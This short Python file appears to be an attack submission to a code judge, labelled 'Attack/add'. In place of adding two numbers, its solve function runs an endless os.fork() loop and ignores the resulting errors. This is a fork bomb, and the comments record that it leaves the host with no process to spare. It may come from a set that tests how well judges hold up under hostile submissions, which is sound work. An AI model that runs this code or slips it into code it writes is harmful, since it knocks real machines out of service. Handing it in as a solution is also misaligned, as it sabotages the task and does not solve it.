# problem: Attack/add
# trick: forks without end
# verdict: not passed
# needs: isolation
# host: no process left
import os


def solve(a, b):
    while True:
        try:
            os.fork()
        except BlockingIOError:
            pass
